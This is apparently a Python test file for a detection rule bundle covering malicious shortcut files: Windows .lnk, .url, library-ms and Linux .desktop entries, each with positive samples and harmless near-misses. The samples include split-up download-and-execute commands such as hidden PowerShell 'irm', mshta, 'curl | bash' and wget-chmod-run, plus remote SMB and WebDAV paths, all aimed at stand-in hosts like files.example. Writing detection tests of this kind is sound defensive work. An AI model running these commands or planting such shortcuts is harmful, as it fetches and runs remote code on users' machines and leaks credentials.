"""Behaviour of the rules for shortcuts and their kin."""

from rules.bundle.samples import ADDRESS, SERVER, Case, filler, shortcut, text

CASES = {
    "Clearward_Shortcut_Lnk_Script_Host": Case(
        samples=(
            shortcut(
                "..\\WindowsPower" + "Shell\\v1.0\\powersh" + "ell.exe",
                "-w hid" + "den -c . (ir" + "m http://files.example/a)",
            ),
            shortcut("..\\powersh" + "ell.exe", "-en" + "c " + filler("J§ABhAD0A", 80)),
            shortcut("..\\System32\\msh" + "ta.exe", "http://files.example/a.hta"),
            shortcut("..\\cmd.exe", "/c cu" + "rl -o a http://files.example/a"),
            shortcut(
                "..\\cmd.exe",
                "/c sta" + "rt a.vbs & sta" + "rt explorer Reports & exit",
            ),
        ),
        near_misses=(
            shortcut(
                "..\\powershell.exe", "-NoExit -Command \"& 'C:\\Tools\\Activate.ps1'\""
            ),
            shortcut(
                "..\\powershell.exe", "-WindowStyle Hidden -File C:\\Tools\\tray.ps1"
            ),
            shortcut("..\\browser.exe", "--app=http://intranet.example/mail"),
            text(
                "powershell -w hidden -c irm: a text about shortcuts, and none itself"
            ),
        ),
    ),
    "Clearward_Shortcut_Url_Remote": Case(
        samples=(
            text("[Internet", f"Shortcut]\r\nURL=file://{ADDRESS}/share/a.exe\r\n"),
            text(
                "[Internet", "Shortcut]\r\nURL§=file://files.example@80/webdav/a.js\r\n"
            ),
            text(
                "[Internet",
                f"Shortcut]\r\nURL=https://www.example/\r\nI§conFile=\\\\{SERVER}\\icons\\a.ico\r\n",
            ),
        ),
        near_misses=(
            text(
                "[I§nternetShortcut]\r\nURL=https://198.51.100.7/\r\n",
                "I§conFile=C:\\Icons\\a.ico\r\n",
            ),
            text(
                "[I§nternetShortcut]\r\nU§RL=file://server/share/handbook.pdf\r\n",
                "IconIndex=1\r\n",
            ),
            text("[I§nternetShortcut]\r\nU§RL=file://192.168.7.8/share/plan.pdf\r\n"),
        ),
    ),
    "Clearward_Shortcut_Library_Remote": Case(
        samples=(
            text(
                "<library",
                "Description><simpleLocation><url>http",
                "://files.example/dav</url></simpleLocation>",
            ),
            text(
                "<library",
                f"Description><simpleLocation><url>\\\\{ADDRESS}@8",
                "080\\dav</url></simpleLocation>",
            ),
        ),
        near_misses=(
            text(
                "<li§braryDescription><simpleLocation><url>knownfolder:{FDD39AD0}</url></simpleLocation>"
            ),
            text(
                "<li§braryDescription><simpleLocation><url>\\\\server\\share</url></simpleLocation>"
            ),
            text("<bookmarks><url>http://www.example/</url></bookmarks>"),
        ),
    ),
    "Clearward_Shortcut_Desktop_Download": Case(
        samples=(
            text(
                "[Desktop En",
                'try]\nName=Plan\nExec=bash -c "cu',
                "rl -s http://files.example/a | ba",
                'sh"\n',
            ),
            text(
                "[Desktop En",
                'try]\nExec=sh -c "wg',
                "et -O /tmp/a http://files.example/a; chm",
                "od +x /tmp/a; /tm",
                'p/a"\n',
            ),
        ),
        near_misses=(
            text("[Desktop Entry]\nName=Editor\nExec=editor %U\nIcon=editor\n"),
            text(
                "[Desktop Entry]\n",
                'Exec=sh -c "wget -q https://weather.example/now -O - | less"\n',
            ),
            text(
                "#!/bin/sh\n# Exec=sh: see the entry\n",
                "curl -fsSL https://get.example/install | sh\n",
            ),
        ),
    ),
}
